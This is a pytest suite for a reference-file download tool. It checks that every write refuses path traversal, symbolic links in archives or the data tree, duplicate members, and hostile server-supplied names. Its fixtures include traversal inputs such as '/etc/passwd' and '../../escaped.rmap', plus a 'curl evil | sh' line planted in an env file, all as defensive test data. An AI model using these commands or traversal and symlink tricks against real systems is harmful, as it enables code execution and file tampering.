"""Where bytes may land: one door (mirage_reffiles.tree.door) for every write, tried as an adversary would,
against the real test servers: archives with links and members written through them, two archives of one
lane with the same member, a CRDS server naming files by paths, links planted in the tree, table ids
that are not names. Nothing outside a row's lane changes, and each refusal is a short error."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path, PurePosixPath
from types import SimpleNamespace

import pandas as pd
import pytest
import yaml
from test_faults import DARK, DARK_GZ, DEST, FAST, LIBRARY, special, state_files
from test_hostile import everything, existing_files, put_tarball

from conftest import REPO, serving
from mirage_reffiles.errors import FetchError, TableError, UnpackError, UsageError
from mirage_reffiles.sources.crds import fill_mappings
from mirage_reffiles.sources.mirage import load_table
from mirage_reffiles.testing.crds_server import MAPPING_DIR, serve_crds, write_context
from mirage_reffiles.testing.mirror import synthetic_bytes
from mirage_reffiles.transfer.fetch import FetchRequest, fetch, fetch_gzip, fetch_logged, fetch_tarball
from mirage_reffiles.tree import layout
from mirage_reffiles.tree.door import BOOKKEEPING, Lane, is_plain_name, open_file, writable
from mirage_reffiles.tree.verify import check_file

LANE = "mirage_data/fgs/cosmic_ray_library"
CONTEXT = "jwst_0001.pmap"


@pytest.fixture
def site(tmp_path):
    with serving(tmp_path / "server", {"d/dark.fits.gz": DARK_GZ}) as server:
        yield server


@pytest.fixture
def victim(tmp_path):
    """A file outside MIRAGE_DATA that no write of the build may reach."""
    path = tmp_path / "victim.txt"
    path.write_bytes(b"precious\n")
    return path


def library_request(url, mirage_data, file_id="lib", **options):
    options = {"kind": "cosmic_ray_library", "instrument": "fgs", "policy": FAST, **options}
    return FetchRequest(url, mirage_data, file_id, "tar.gz", claimed={DEST: "dark"}, **options)


def outside(tmp_path, mirage_data):
    """Every file under ``tmp_path`` but the server's and MIRAGE_DATA's, with its bytes."""
    return {
        path: path.read_bytes()
        for path in tmp_path.rglob("*")
        if path.is_file() and not path.is_relative_to(tmp_path / "server") and not path.is_relative_to(mirage_data)
    }


def tree_but_locks_and_logs(mirage_data):
    """Every file under MIRAGE_DATA with its bytes, but the locks and logs any job leaves."""
    skip = (".reffiles/locks/", ".reffiles/logs/")
    return {name: data for name, data in everything(mirage_data).items() if not name.startswith(skip)}


# The door itself


def test_a_plain_relative_name_goes_through_and_nothing_else_does(tmp_path):
    assert writable(tmp_path, "fgs/cosmic_ray_library/a.fits") == tmp_path / "fgs/cosmic_ray_library/a.fits"
    assert writable(tmp_path, tmp_path / "fgs/a.fits") == tmp_path / "fgs/a.fits"  # a path under the root
    for name in ("../escaped", "fgs/../../escaped", "/etc/passwd", "fgs//a.fits", "./a.fits", "fgs/.", ""):
        with pytest.raises(FetchError, match=r"refused: it is not a plain relative name"):
            writable(tmp_path, name)
    with pytest.raises(UnpackError, match=r"^member 'x' refused: it is not a plain"):
        writable(tmp_path, "..", error=UnpackError, what="member 'x'")
    with pytest.raises(FetchError, match=r"elsewhere/a\.fits' refused: it is not under"):
        writable(tmp_path / "root", tmp_path / "elsewhere/a.fits")
    with pytest.raises(FetchError, match="not a plain relative name"):
        writable(tmp_path / "root", tmp_path / "root/../elsewhere/a.fits")
    relative = Path("mirage_data")  # a relative MIRAGE_DATA: its paths are relative too
    assert writable(relative, relative / "fgs/a.fits") == relative / "fgs/a.fits"


def test_no_component_below_the_root_may_be_a_link(tmp_path):
    root, elsewhere = tmp_path / "root", tmp_path / "elsewhere"
    (root / "fgs").mkdir(parents=True)
    elsewhere.mkdir()
    (root / "fgs/cosmic_ray_library").symlink_to(elsewhere)
    (root / "fgs/a.fits").symlink_to(elsewhere / "a.fits")
    for name in ("fgs/cosmic_ray_library/x.fits", "fgs/cosmic_ray_library", "fgs/a.fits"):
        with pytest.raises(FetchError, match=f"{root / PurePosixPath(name).parts[0]}/.* is a symbolic link"):
            writable(root, name)
    linked_root = tmp_path / "linked"
    linked_root.symlink_to(root)  # the root itself is the user's choice: it may be a link
    assert writable(linked_root, "niriss/b.fits") == linked_root / "niriss/b.fits"


def test_a_file_where_a_folder_must_be_and_a_folder_where_a_file_must_be(tmp_path):
    (tmp_path / "a.fits").write_bytes(b"x")
    (tmp_path / "folder").mkdir()
    with pytest.raises(UnpackError, match=r"a.fits is a file, not a folder"):
        writable(tmp_path, "a.fits/b.fits", error=UnpackError)
    with pytest.raises(UnpackError, match=r"a.fits is a file, not a folder"):
        writable(tmp_path, "a.fits", is_dir=True, error=UnpackError)
    with pytest.raises(UnpackError, match=r"folder is a folder, not a file"):
        writable(tmp_path, "folder", error=UnpackError)
    assert writable(tmp_path, "folder", is_dir=True) == tmp_path / "folder"


def test_a_lane_keeps_its_writer_inside_and_off_what_others_hold(tmp_path):
    lane = Lane.of("psf_library", "nircam", claimed={"nircam/darks/raw/A1/d.fits": "dark_a1"})
    lane = lane.claiming({"nircam/gridded_psf_library/a.fits": "psf_one"})
    assert writable(tmp_path, "nircam/gridded_psf_library/b.fits", lane)
    assert writable(tmp_path, "nircam", lane, is_dir=True)  # a parent of the lane creates no file
    refused = {
        "nircam/gridded_psf_library/a.fits": "is a file of row 'psf_one', which landed first",
        "nircam/darks/raw/A1/d.fits": "is a file of row 'dark_a1'",
        "nircam/gridded_psf_library/psf_wings/w.fits": "another kind's folder",
        "nircam/ghosts/g.fits": "is outside its lane: a psf_library tarball may only create files under",
    }
    for name, reason in refused.items():
        with pytest.raises(FetchError, match=reason):
            writable(tmp_path, name, lane)
    for name in (".reffiles/records/x.json", "archives/x.gz", layout.ENV_FILE):
        with pytest.raises(FetchError, match="belongs to the build itself"):
            writable(tmp_path, name, Lane())
    assert writable(tmp_path, ".reffiles/downloads/x.gz.part", BOOKKEEPING)
    with pytest.raises(FetchError, match=r"only \.reffiles/ may be written here"):
        writable(tmp_path, "nircam/x.fits", BOOKKEEPING)


def test_open_file_never_follows_a_link(tmp_path, victim):
    link = tmp_path / "link"
    link.symlink_to(victim)
    for mode in ("rb", "wb", "ab", "a+b", "xb"):
        with pytest.raises((FetchError, FileExistsError)):
            open_file(link, mode)
    assert victim.read_bytes() == b"precious\n"


def test_names_from_servers_and_tables_are_names():
    assert all(map(is_plain_name, ("jwst_0001.pmap", "jwst_nircam_flat_0001.fits", "a-b_c.d", "...")))
    assert not any(map(is_plain_name, ("..", ".", "", "a/b", "/abs", "a b", "ü.fits", "a\\b")))


# Archives


LINK = special(f"{LANE}/sub", tarfile.SYMTYPE, "../..")  # from inside the lane to MIRAGE_DATA itself


@pytest.mark.parametrize(
    "through",
    [
        {f"{LANE}/sub/{DEST}": b"SIMPLE  = not the dark"},
        {f"{LANE}/sub/.reffiles/records/dark.json": b'{"file_id": "forged"}'},
        {f"{LANE}/sub/{layout.ENV_FILE}": b"curl evil | sh\n"},
        {f"{LANE}/sub/fgs/cosmic_ray_library/cr_0.fits": b"SIMPLE  = written through the link"},
    ],
    ids=["another-rows-dark", "bookkeeping", "env-file", "inside-the-lane"],
)
def test_a_link_member_and_members_written_through_it_change_nothing(site, mirage_data, tmp_path, through):
    before, around = existing_files(mirage_data), outside(tmp_path, mirage_data)
    url = put_tarball(site, {**LIBRARY, f"{LANE}/sub": LINK, **through})
    log = io.StringIO()
    with pytest.raises(UnpackError, match=f"unsafe member '{LANE}/sub' refused: a link; an archive may hold files"):
        fetch(library_request(url, mirage_data), log)
    assert "fetching it once more from the start" in log.getvalue() and len(site.requests) == 2
    assert tree_but_locks_and_logs(mirage_data) == before
    assert outside(tmp_path, mirage_data) == around
    assert state_files(mirage_data) == []  # the archive is deleted: the next run does not trip on it again


def test_a_lane_folder_that_is_a_link_in_the_tree_is_never_written_through(site, mirage_data, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (mirage_data / "fgs").mkdir(parents=True)
    (mirage_data / "fgs/cosmic_ray_library").symlink_to(elsewhere)
    url = put_tarball(site, LIBRARY)
    with pytest.raises(UnpackError, match=r"cosmic_ray_library is a symbolic link, and the build never writes"):
        fetch(library_request(url, mirage_data), io.StringIO())
    assert list(elsewhere.iterdir()) == []
    assert not layout.record_path(mirage_data, "lib").exists()


def test_a_file_and_a_member_below_it_are_refused_and_the_next_source_serves(site, mirage_data):
    bad = put_tarball(site, {f"{LANE}/a.fits": DARK[:2880], f"{LANE}/a.fits/b.fits": DARK[:2880]}, "bad.tar.gz")
    with pytest.raises(UnpackError, match=rf"member '{LANE}/a.fits/b.fits' refused: .*a.fits is a file, not a folder"):
        fetch_tarball(bad, mirage_data, "lib", policy=FAST, lane=Lane.of("cosmic_ray_library", "fgs"))
    good = put_tarball(site, LIBRARY, "good.tar.gz")
    log = io.StringIO()
    fetch(library_request(bad, mirage_data, mirrors=(good,)), log)
    assert f"lib: served by {good}" in log.getvalue()
    for name, data in LIBRARY.items():
        assert (mirage_data / name.removeprefix("mirage_data/")).read_bytes() == data


def test_a_member_twice_in_one_archive_is_refused(site, mirage_data):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for data in (DARK[:2880], DARK[2880:5760]):
            info = tarfile.TarInfo(f"{LANE}/twice.fits")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    (site.root / "d/twice.tar.gz").write_bytes(buffer.getvalue())
    with pytest.raises(UnpackError, match=r"twice\.fits' refused: the archive holds it twice"):
        fetch_tarball(site.url + "d/twice.tar.gz", mirage_data, "lib", policy=FAST, lane=Lane())
    assert not (mirage_data / "fgs").exists()


PSF = "mirage_data/nircam/gridded_psf_library"


def test_two_tarballs_of_one_lane_may_not_share_a_member(site, mirage_data):
    first = {f"{PSF}/shared.fits": synthetic_bytes("first", 30_000), f"{PSF}/first.fits": synthetic_bytes("1", 9000)}
    second = {f"{PSF}/shared.fits": synthetic_bytes("second", 30_000), f"{PSF}/second.fits": synthetic_bytes("2", 90)}
    requests = [
        FetchRequest(
            put_tarball(site, members, f"{file_id}.tar.gz"),
            mirage_data,
            file_id,
            "tar.gz",
            policy=FAST,
            kind="psf_library",
            instrument="nircam",
        )
        for file_id, members in (("psf_one", first), ("psf_two", second))
    ]
    fetch(requests[0], io.StringIO())
    with pytest.raises(UnpackError, match=r"'nircam/gridded_psf_library/shared.fits' is a file of row 'psf_one'"):
        fetch(requests[1], io.StringIO())
    assert (mirage_data / "nircam/gridded_psf_library/shared.fits").read_bytes() == first[f"{PSF}/shared.fits"]
    assert not (mirage_data / "nircam/gridded_psf_library/second.fits").exists()  # refused whole
    assert not layout.record_path(mirage_data, "psf_two").exists() and state_files(mirage_data) == []
    row = SimpleNamespace(file_id="psf_one", archive="tar.gz", destination="", root=str(mirage_data))
    assert check_file(row, with_contents=True).status == "ok"  # nothing for verify to repair


def test_a_table_id_that_is_not_a_name_removes_no_bookkeeping(site, mirage_data):
    existing_files(mirage_data)
    kept = mirage_data / ".reffiles/downloads/other.gz.part"
    kept.parent.mkdir(parents=True)
    kept.write_bytes(DARK_GZ[:1000])
    before = tree_but_locks_and_logs(mirage_data)
    url = put_tarball(site, LIBRARY)
    for file_id in ("..", "."):
        with pytest.raises(FetchError, match=r"row id '\.\.?' refused: it is not a plain name"):
            fetch_tarball(url, mirage_data, file_id, policy=FAST, lane=Lane())
    assert tree_but_locks_and_logs(mirage_data) == before


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("file_id", "..", r"column file_id: bad value '\.\.'"),
        ("file_id", ".", r"column file_id: bad value '\.'"),
        ("path", "nircam/../../escaped.gz", r"column path: bad value 'nircam/\.\./\.\./escaped.gz'"),
    ],
)
def test_the_table_refuses_ids_and_paths_that_are_not_names(tmp_path, column, value, message):
    table = pd.read_csv(REPO / "config/reference_files.csv", dtype=str, keep_default_na=False)
    table.loc[0, column] = value
    table.to_csv(tmp_path / "table.csv", index=False)
    schema = yaml.safe_load((REPO / "config/schemas/reference_files.schema.yaml").read_text())
    with pytest.raises(TableError, match=message):
        load_table(tmp_path / "table.csv", schema)
    if column == "file_id":  # the loader refuses it also when no schema is given
        with pytest.raises(TableError, match=r"is not a plain name .* it names the row's record"):
            load_table(tmp_path / "table.csv")


# Links planted in the tree


@pytest.mark.parametrize("archive", ["tar.gz", "gz"])
def test_a_link_at_a_partial_download_is_neither_read_nor_appended_to(site, mirage_data, victim, archive):
    partial = layout.partial_download_path(mirage_data, "lib" if archive == "tar.gz" else "dark", archive)
    partial.parent.mkdir(parents=True)
    partial.symlink_to(victim)
    with pytest.raises(FetchError, match=r"lib.tar.gz.part is a symbolic link|dark.gz.part is a symbolic link"):
        if archive == "tar.gz":
            fetch_tarball(put_tarball(site, LIBRARY), mirage_data, "lib", policy=FAST, lane=Lane())
        else:
            fetch_gzip(site.url + "d/dark.fits.gz", mirage_data, "dark", DEST, policy=FAST)
    assert victim.read_bytes() == b"precious\n"
    assert site.requests == []  # refused before anything was asked


def test_a_link_beside_a_partial_download_is_not_kept_bytes(site, mirage_data, victim):
    partial = layout.partial_download_path(mirage_data, "dark", "gz")
    partial.parent.mkdir(parents=True)
    partial.with_name(partial.name + ".from0").symlink_to(victim)
    partial.with_name(partial.name + ".seg0-100").symlink_to(victim)
    fetch_gzip(site.url + "d/dark.fits.gz", mirage_data, "dark", DEST, policy=FAST)
    assert (mirage_data / DEST).read_bytes() == DARK
    assert victim.read_bytes() == b"precious\n"
    assert site.requests[0].range is None  # nothing of the victim counted as kept


@pytest.mark.parametrize("keep_archives", [True, False], ids=["keep_archives", "resumable"])
def test_a_link_at_a_darks_temporary_path_is_not_written_through(site, mirage_data, victim, keep_archives):
    temporary = layout.temporary_path(mirage_data / DEST)
    temporary.parent.mkdir(parents=True)
    temporary.symlink_to(victim)
    kept = layout.kept_archive_path(mirage_data, "d/dark.fits.gz") if keep_archives else None
    with pytest.raises(FetchError, match=r"dark.fits.part is a symbolic link, and the build never writes through"):
        fetch_gzip(site.url + "d/dark.fits.gz", mirage_data, "dark", DEST, policy=FAST, kept_archive=kept)
    assert victim.read_bytes() == b"precious\n"
    assert not os.path.lexists(mirage_data / DEST)  # the dark did not become the link


def test_a_link_where_an_archive_is_kept_is_not_written_through(site, mirage_data, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (mirage_data / layout.ARCHIVE_DIR).mkdir(parents=True)
    (mirage_data / layout.ARCHIVE_DIR / "d").symlink_to(elsewhere)
    kept = layout.kept_archive_path(mirage_data, "d/dark.fits.gz")
    with pytest.raises(FetchError, match=r"archives/d is a symbolic link"):
        fetch_gzip(site.url + "d/dark.fits.gz", mirage_data, "dark", DEST, policy=FAST, kept_archive=kept)
    assert list(elsewhere.iterdir()) == []


# Names from a CRDS server


@pytest.fixture
def crds_root(tmp_path):
    root = tmp_path / "crds_server"
    write_context(root, CONTEXT, reference_size=4096)
    return root


@pytest.mark.parametrize("name", ["../../escaped.rmap", "/tmp/escaped.rmap", "sub/escaped.rmap", "..", ""])
def test_a_crds_server_naming_mappings_by_paths_writes_nothing(crds_root, tmp_path, name):
    crds_path = tmp_path / "cache"
    with serve_crds(crds_root, CONTEXT) as server:
        # A hostile server: the name comes with the size and SHA-1 of bytes it would serve for it.
        real = sorted(path.name for path in (crds_root / MAPPING_DIR).iterdir())
        server.answers["get_mapping_names"] = [*real, name]
        infos = {n: server.file_info(n) or server.file_info(CONTEXT) for n in [*real, name]}
        server.answers["get_file_info_map"] = infos
        with pytest.raises(UsageError, match=rf"the CRDS server {server.url} answered get_mapping_names with "
                           rf"{name!r}, which is not a file name"):  # fmt: skip
            fill_mappings(crds_path, server.url, CONTEXT, policy=FAST)
        assert server.gets() == []  # refused before any download
    assert not crds_path.exists()
    assert not list(tmp_path.rglob("escaped.rmap")) and not Path("/tmp/escaped.rmap").exists()


def test_a_link_at_a_log_or_a_lock_is_not_written_through(site, mirage_data, victim, tmp_path):
    request = FetchRequest(site.url + "d/dark.fits.gz", mirage_data, "dark", "gz", DEST, policy=FAST)
    log = mirage_data / ".reffiles/logs/dark.log"
    log.parent.mkdir(parents=True)
    log.symlink_to(victim)
    with pytest.raises(FetchError, match=r"dark.log is a symbolic link, and the build never reads or writes"):
        fetch_logged(request, log)
    assert victim.read_bytes() == b"precious\n"
    log.unlink()
    lock = layout.lock_path(mirage_data, "dark")
    lock.parent.mkdir(parents=True)
    lock.symlink_to(tmp_path / "made_by_the_lock")  # a dangling link: opening it would create its target
    with pytest.raises(FetchError, match=r"dark.lock is a symbolic link"):
        fetch_logged(request, log)
    assert not (tmp_path / "made_by_the_lock").exists() and site.requests == []
